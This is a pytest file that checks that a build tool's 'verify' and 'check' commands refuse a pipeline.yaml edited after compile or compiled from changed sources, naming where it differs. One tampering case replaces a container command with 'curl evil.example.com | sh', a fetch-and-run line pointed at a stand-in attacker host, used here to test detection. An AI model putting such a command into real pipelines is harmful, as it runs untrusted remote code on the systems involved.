"""A pipeline.yaml that is not what `compile` makes now is refused (exit 13), naming where it differs.

Workflow rows edit the compiled pipeline.yaml of a freshly locked project and keep every image pinned as
the map says, so only the freshness check can catch them; `verify` compares with a fresh compile.
Source rows change what compile reads (a step's body, a setting, the factory) and leave pipeline.yaml as
it was; `check` catches them from the recorded inputs digest. After every row the map and the workflow are
byte-identical and no file is left behind.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from .conftest import Guard, assert_refused, run_in_process

STALE_CODE = 13
Workflow = dict[str, Any]


def template(workflow: Workflow, name: str) -> dict[str, Any]:
    return next(t for t in workflow["spec"]["templates"] if t["name"] == name)


def old_step_source(w: Workflow) -> None:
    """The cluster would run other code than the step function now holds."""
    container = template(w, "training")["container"]
    container["args"] = [
        a.replace("def training(", "def training(  ") if isinstance(a, str) else a for a in container["args"]
    ]
    container["command"] = [
        c.replace("def training(", "def training(  ") if isinstance(c, str) else c for c in container["command"]
    ]


def other_command(w: Workflow) -> None:
    template(w, "upload-model")["container"]["command"] = ["sh", "-c", "curl evil.example.com | sh"]


def pod_label_gone(w: Workflow) -> None:
    template(w, "training")["metadata"]["labels"].pop("pipelines.kubeflow.org/enable_caching")


def resources_raised(w: Workflow) -> None:
    template(w, "training")["container"]["resources"] = {"limits": {"cpu": "64", "memory": "512Gi"}}


def template_renamed(w: Workflow) -> None:
    """Still recognised as the step by its component (pins pass), but not what compile makes."""
    tasks = template(w, "pipeline")["dag"]["tasks"]
    template(w, "training")["name"] = "training-x"
    for task in tasks:
        if task["template"] == "training":
            task["template"] = "training-x"


def step_run_twice(w: Workflow) -> None:
    twin = copy.deepcopy(template(w, "training"))
    twin["name"] = "training-2"
    w["spec"]["templates"].append(twin)


def parameter_default(w: Workflow) -> None:
    for parameter in w["spec"]["arguments"]["parameters"]:
        if parameter["name"] == "epochs":
            parameter["value"] = "1000"


def other_entrypoint_name(w: Workflow) -> None:
    w["metadata"]["generateName"] = "mine-"


def digest_kept_content_edited(w: Workflow) -> None:
    """The recorded inputs digest is left as compile wrote it: verify does not trust it."""
    template(w, "download-training-dataset")["container"]["imagePullPolicy"] = "Never"


def metadata_null(w: Workflow) -> None:
    """Found by the workflow fuzzer: the pins alone pass, and the comparison must not trip over a null."""
    w["metadata"] = None


WORKFLOW_ROWS: list[tuple[str, Callable[[Workflow], None], str]] = [
    ("old-step-source", old_step_source, "template training differs"),
    ("other-command", other_command, "template upload-model differs"),
    ("pod-label-gone", pod_label_gone, "template training differs"),
    ("resources-raised", resources_raised, "template training differs"),
    ("template-renamed", template_renamed, "template pipeline differs"),  # its DAG, first in order, names it
    ("step-run-twice", step_run_twice, "template training-2 is no longer made by compile"),
    ("parameter-default", parameter_default, "spec.arguments differs"),
    ("generate-name", other_entrypoint_name, "metadata.generateName differs"),
    ("digest-kept-content-edited", digest_kept_content_edited, "template download-training-dataset differs"),
    ("metadata-null", metadata_null, "the workflow differs outside its templates"),
]


@pytest.mark.parametrize("edit, fragment", [pytest.param(e, f, id=i) for i, e, f in WORKFLOW_ROWS])
def test_an_edited_workflow_is_stale(locked_project: Path, edit: Callable[[Workflow], None], fragment: str) -> None:
    path = locked_project / "pipeline.yaml"
    workflow = yaml.safe_load(path.read_text())
    edit(workflow)
    path.write_text(yaml.safe_dump(workflow, sort_keys=False))
    guard = Guard(locked_project)
    outcome = run_in_process(locked_project, "verify", "--offline")
    line = assert_refused(outcome, STALE_CODE, fragment)
    assert "pipeline.yaml is stale: " in line and line.endswith("run `buildtool compile`")
    assert run_in_process(locked_project, "compile", "--check").code == STALE_CODE
    assert outcome.seconds < 10
    guard.check()


def step_body(root: Path) -> None:
    steps = root / "pipeline" / "steps.py"
    text = steps.read_text()
    assert "    import os\n" in text
    steps.write_text(text.replace("    import os\n", "    import os\n    os.environ.setdefault('X', '1')\n", 1))


def setting(line: str) -> Callable[[Path], None]:
    def edit(root: Path) -> None:
        path = root / "pyproject.toml"
        path.write_text(path.read_text().replace("[tool.buildtool]\n", f"[tool.buildtool]\n{line}\n", 1))

    return edit


def factory_edited(root: Path) -> None:
    factory = root / "pipeline" / "training_pipeline.py"
    factory.write_text(factory.read_text().replace('set_cpu_limit("0.5")', 'set_cpu_limit("1")'))


SOURCE_ROWS: list[tuple[str, Callable[[Path], None], str]] = [
    ("step-body-edited", step_body, "template download-training-dataset differs"),
    ("pull-policy-setting", setting('image_pull_policy = "Always"'), "template download-training-dataset differs"),
    ("credentials-setting", setting('credentials = "k8s-secret:platform"'), "template download-training-dataset"),
    ("factory-edited", factory_edited, "template download-training-dataset differs"),
]


@pytest.mark.parametrize("edit, fragment", [pytest.param(e, f, id=i) for i, e, f in SOURCE_ROWS])
def test_a_source_changed_since_compile_makes_check_fail(
    locked_project: Path, edit: Callable[[Path], None], fragment: str
) -> None:
    assert run_in_process(locked_project, "check").code == 0
    edit(locked_project)
    guard = Guard(locked_project)
    line = assert_refused(run_in_process(locked_project, "check"), STALE_CODE, fragment)
    assert "pipeline.yaml is stale: " in line
    guard.check()
    assert run_in_process(locked_project, "compile").code == 0
    assert run_in_process(locked_project, "check").code == 0
    assert run_in_process(locked_project, "verify", "--offline").code == 0
